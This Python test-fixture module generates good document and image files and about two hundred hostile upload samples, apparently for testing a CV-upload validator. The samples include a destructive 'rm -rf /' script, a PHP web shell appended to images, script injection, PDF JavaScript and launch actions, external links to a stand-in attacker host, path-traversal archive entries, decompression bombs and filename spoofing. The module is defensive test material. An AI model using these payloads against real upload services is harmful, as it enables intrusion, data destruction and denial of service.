"""Files for the tests: good ones of every kind, and two hundred bad ones, by family."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

# -- Good files ----------------------------------------------------------------------------------------------------


def pdf(pages: int = 1, **root) -> bytes:
    made = pikepdf.new()
    for _page in range(pages):
        made.add_blank_page()
    for key, value in root.items():
        made.Root[f"/{key}"] = value
    return _saved(made)


def _saved(made: pikepdf.Pdf, **options) -> bytes:
    written = io.BytesIO()
    made.save(written, **options)
    return written.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 30), **options) -> bytes:
    written = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(written, kind, **options)
    return written.getvalue()


def packed(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return written.getvalue()


DOCX = {
    "[Content_Types].xml": b"<Types/>",
    "_rels/.rels": b"<Relationships/>",
    "word/document.xml": b"<w:document/>",
}
ODT = {
    "mimetype": b"application/vnd.oasis.opendocument.text",
    "content.xml": b"<office:document-content/>",
    "META-INF/manifest.xml": b"<manifest:manifest/>",
}


def docx(**more: bytes) -> bytes:
    return packed(DOCX | more)


def odt(**more: bytes) -> bytes:
    return packed(ODT | more)


# -- Bad files -----------------------------------------------------------------------------------------------------

PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
PROGRAM = b"MZ\x90\0" + b"\0" * 200 + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 300
SHELL = b"#!/bin/sh\nrm -rf /\n"
ALLOWED = ("pdf", "docx", "odt", "jpg", "jpeg", "png")
Bad = Iterator[tuple[str, str, bytes]]


def disguised() -> Bad:
    """Something else under an allowed name."""
    contents = {
        "page": PAGE,
        "program": PROGRAM,
        "elf": ELF,
        "script": SHELL,
        "text": b"Beste, hierbij mijn cv.",
    }
    contents |= {
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "gif": b"GIF89a" + b"\0" * 60,
    }
    contents |= {"pdf": pdf(), "zip": packed({"a.txt": b"a"}), "png": picture("PNG"), "jpg": picture()}
    for what, content in contents.items():
        for extension in ALLOWED:
            if what != extension and (what, extension) != ("jpg", "jpeg"):
                yield f"{what} as {extension}", f"cv.{extension}", content


def kinds() -> Bad:
    """Kinds that we do not take, and names without a kind."""
    names = [
        "exe",
        "html",
        "htm",
        "svg",
        "js",
        "bat",
        "sh",
        "php",
        "doc",
        "docm",
        "dotm",
        "xlsx",
        "zip",
        "rar",
        "7z",
        "heic",
        "heif",
        "tiff",
        "gif",
        "webp",
        "pdf.exe",
        "pdf.html",
    ]
    for name in names:
        yield f"kind {name}", f"cv.{name}", pdf()
    for name in ("cv", "pdf", ".pdf", "cv.", "cv.pdf."):
        yield f"name {name}", name, pdf()


def named() -> Bad:
    """Names that hide what they are."""
    signs = "\u202e\u202d\u2066\u2067\u200f\u200e\u200b\u200d\ufeff\0\n\r\t\x07\x1b\x7f\u2028"
    for sign in signs:
        yield f"sign {ord(sign):04x}", f"cv{sign}fdp.pdf", pdf()
    yield "no name", "", pdf()
    yield "folder only", "../../", pdf()


def polyglots() -> Bad:
    """Two kinds of file in one."""
    archive = packed({"evil.jar": b"x"})
    yield "pdf and zip", "cv.pdf", pdf() + archive
    yield "pdf and page", "cv.pdf", pdf() + PAGE
    yield "pdf after page", "cv.pdf", PAGE + pdf()
    yield "pdf after gif", "cv.pdf", b"GIF89a" + pdf()
    yield "pdf after blank", "cv.pdf", b"\n" + pdf()
    yield "pdf after program", "cv.pdf", PROGRAM + pdf()
    yield "pdf with page in its head", "cv.pdf", pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1)
    for kind, name in (("JPEG", "foto.jpg"), ("PNG", "foto.png")):
        yield f"{kind} and zip", name, picture(kind) + archive
        yield f"{kind} and page", name, picture(kind) + PAGE
        yield f"{kind} and php", name, picture(kind) + b"<?php system($_GET['x']); ?>"
        yield f"{kind} and pdf", name, picture(kind) + pdf()
    yield "JPEG with php in its comment", "foto.jpg", picture(comment=b"<?php phpinfo(); ?>")
    for name, content in (("cv.docx", docx()), ("cv.odt", odt())):
        yield f"{name} and page", name, content + PAGE
        yield f"{name} after program", name, PROGRAM + content
        yield f"{name} and pdf", name, content + pdf()


def bombs() -> Bad:
    """Small outside, enormous inside."""
    yield "docx bomb", "cv.docx", docx(**{"word/media/x.bin": b"\0" * 3_000_000})
    yield "odt bomb", "cv.odt", odt(**{"Pictures/x.png": b"\0" * 3_000_000})
    yield "xml bomb", "cv.docx", docx(**{"word/x.xml": b"a" * 101 * 1024 * 1024})
    for n in (2001, 5000):
        many = {f"word/{i}": b"" for i in range(n)}
        yield f"docx of {n} entries", "cv.docx", packed(DOCX | many)
        yield f"odt of {n} entries", "cv.odt", packed(ODT | many)
    entity = b'<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><d>&b;</d>'
    yield "docx entities", "cv.docx", packed(DOCX | {"word/document.xml": entity})
    yield "odt entities", "cv.odt", packed(ODT | {"content.xml": entity})
    stream = zlib.compress(b"0 0 " * 30_000_000, 1)
    yield (
        "pdf bomb of an object stream",
        "cv.pdf",
        b"%%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n%%%%EOF\n"
        % (len(stream), stream),
    )
    yield "pdf of 301 pages", "cv.pdf", pdf(301)


def encrypted() -> Bad:
    for level in (2, 3, 4, 6):
        for user, owner in (("geheim", "geheim"), ("", "geheim")):
            made = pikepdf.new()
            made.add_blank_page()
            lock = pikepdf.Encryption(user=user, owner=owner, R=level, aes=level >= 4, metadata=level >= 4)
            yield f"pdf encrypted R{level} {bool(user)}", "cv.pdf", _saved(made, encryption=lock)
    yield "docx encrypted", "cv.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    secret = b"<manifest:manifest><manifest:encryption-data/></manifest:manifest>"
    yield "odt encrypted", "cv.odt", packed(ODT | {"META-INF/manifest.xml": secret})
    raw = bytearray(docx())
    for at in (i for i in range(len(raw) - 4) if raw[i : i + 4] in (b"PK\x03\x04", b"PK\x01\x02")):
        raw[at + (6 if raw[at + 2] == 3 else 8)] |= 1
    yield "docx with locked entries", "cv.docx", bytes(raw)


def truncated() -> Bad:
    """Cut off, at many places."""
    whole = {"cv.pdf": pdf(3), "foto.jpg": picture(size=(200, 200)), "foto.png": picture("PNG", (200, 200))}
    whole |= {"cv.docx": docx(), "cv.odt": odt()}
    for name, content in whole.items():
        for tenth in range(1, 10):
            yield f"{name} to {tenth}0 %", name, content[: len(content) * tenth // 10]
    yield "pdf without xref", "cv.pdf", pdf().replace(b"startxref", b"startxxxx")
    yield "pdf of nothing", "cv.pdf", b"%PDF-1.7\n%%EOF\n"
    yield "pdf without pages", "cv.pdf", pdf(0)


def scripted() -> Bad:
    """PDFs and text documents that run something or carry another file."""
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    yield "pdf OpenAction", "cv.pdf", pdf(OpenAction=script)
    yield "pdf launch", "cv.pdf", pdf(OpenAction=Dictionary(S=Name.Launch, F="cmd.exe"))
    for kind in ("SubmitForm", "ImportData", "GoToE", "GoToR", "Rendition"):
        yield f"pdf {kind}", "cv.pdf", pdf(OpenAction=Dictionary(S=Name(f"/{kind}"), F="x"))
    yield "pdf additional actions", "cv.pdf", pdf(AA=Dictionary(WC=script))
    yield (
        "pdf script by name",
        "cv.pdf",
        pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))),
    )
    yield "pdf embedded by name", "cv.pdf", pdf(Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array([]))))
    yield "pdf XFA", "cv.pdf", pdf(AcroForm=Dictionary(XFA="x", Fields=Array([])))
    yield "pdf script in an array", "cv.pdf", pdf(Extra=Array([Array([script])]))
    made = pikepdf.new()
    made.add_blank_page()
    made.attachments["evil.exe"] = PROGRAM
    yield "pdf attachment", "cv.pdf", _saved(made)
    for kind in ("RichMedia", "Movie", "Sound", "Screen", "3D"):
        made = pikepdf.new()
        page = made.add_blank_page()
        note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 1, 1]))
        page.Annots = made.make_indirect(Array([made.make_indirect(note)]))
        yield f"pdf {kind}", "cv.pdf", _saved(made)
    made = pikepdf.new()
    made.add_blank_page()
    made.Root.OpenAction = made.make_indirect(script)
    yield (
        "pdf script in an object stream",
        "cv.pdf",
        _saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    )
    yield "docx macros", "cv.docx", docx(**{"word/vbaProject.bin": b"x"})
    types = b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    yield "docm as docx", "cv.docx", packed(DOCX | {"[Content_Types].xml": types})
    yield "docx ActiveX", "cv.docx", docx(**{"word/activeX/activeX1.bin": b"x"})
    yield "docx embedded", "cv.docx", docx(**{"word/embeddings/oleObject1.bin": b"x"})
    outside = b'<Relationship Type="http://x/%s" Target="http://evil.example/" TargetMode="External"/>'
    for kind in (b"attachedTemplate", b"oleObject", b"frame", b"subDocument"):
        name = kind.decode()
        yield f"docx outside {name}", "cv.docx", docx(**{"word/_rels/settings.xml.rels": outside % kind})
    yield (
        "docx outside, turned around",
        "cv.docx",
        docx(
            **{
                "word/_rels/x.rels": b'<Relationship TargetMode="External" Type="http://x/attachedTemplate" Target="h"/>'
            }
        ),
    )
    yield "odt macros", "cv.odt", odt(**{"Basic/Standard/Module1.xml": b"x"})
    yield "odt scripts", "cv.odt", odt(**{"Scripts/python/evil.py": b"x"})
    yield "odt object", "cv.odt", odt(**{"Object 1/content.xml": b"<x/>"})
    yield "odt listener", "cv.odt", packed(ODT | {"content.xml": b"<x><script:event-listener/></x>"})


def out_of_place() -> Bad:
    """Entries that would land elsewhere, or twice."""
    for name in ("../evil", "/etc/passwd", "word/../../evil", "word\\..\\evil"):
        yield f"docx {name}", "cv.docx", docx(**{name: b"x"})
        yield f"odt {name}", "cv.odt", odt(**{name: b"x"})
    yield "docx without a text", "cv.docx", packed({"[Content_Types].xml": b"<Types/>"})
    yield (
        "odt that is a table",
        "cv.odt",
        packed(ODT | {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
    )


def pixels() -> Bad:
    """Small files that say to hold an enormous picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    for side in (8_000, 12_000, 14_000, 50_000, 2_000_000_000):
        head = struct.pack("!IIBBBBB", side, side, 8, 0, 0, 0, 0)
        body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
        yield f"png of {side} by {side}", "foto.png", b"\x89PNG\r\n\x1a\n" + body
    for side in (8_000, 20_000, 65_000):
        raw = bytearray(picture())
        at = raw.index(b"\xff\xc0")
        raw[at + 5 : at + 9] = struct.pack("!HH", side, side)
        yield f"jpg of {side} by {side}", "foto.jpg", bytes(raw)


def sizes() -> Bad:
    for extension in ALLOWED:
        yield f"empty {extension}", f"cv.{extension}", b""
        yield f"oversize {extension}", f"cv.{extension}", pdf() + b"\0" * (10 * 1024 * 1024)


def noise() -> Bad:
    """A right beginning, and then anything."""
    dice = random.Random(4)
    begins = {"pdf": b"%PDF-1.7\n", "docx": b"PK\x03\x04", "odt": b"PK\x03\x04"}
    begins |= {"jpg": b"\xff\xd8\xff\xe0", "png": b"\x89PNG\r\n\x1a\n"}
    for extension, begin in begins.items():
        for n in range(4):
            yield f"noise {extension} {n}", f"cv.{extension}", begin + dice.randbytes(4000)
    yield "noise with an end", "cv.pdf", b"%PDF-1.7\n" + dice.randbytes(4000) + b"\n%%EOF"


FAMILIES = (
    disguised, kinds, named, polyglots, bombs, encrypted, truncated, scripted, out_of_place, pixels, sizes, noise,
)  # fmt: skip
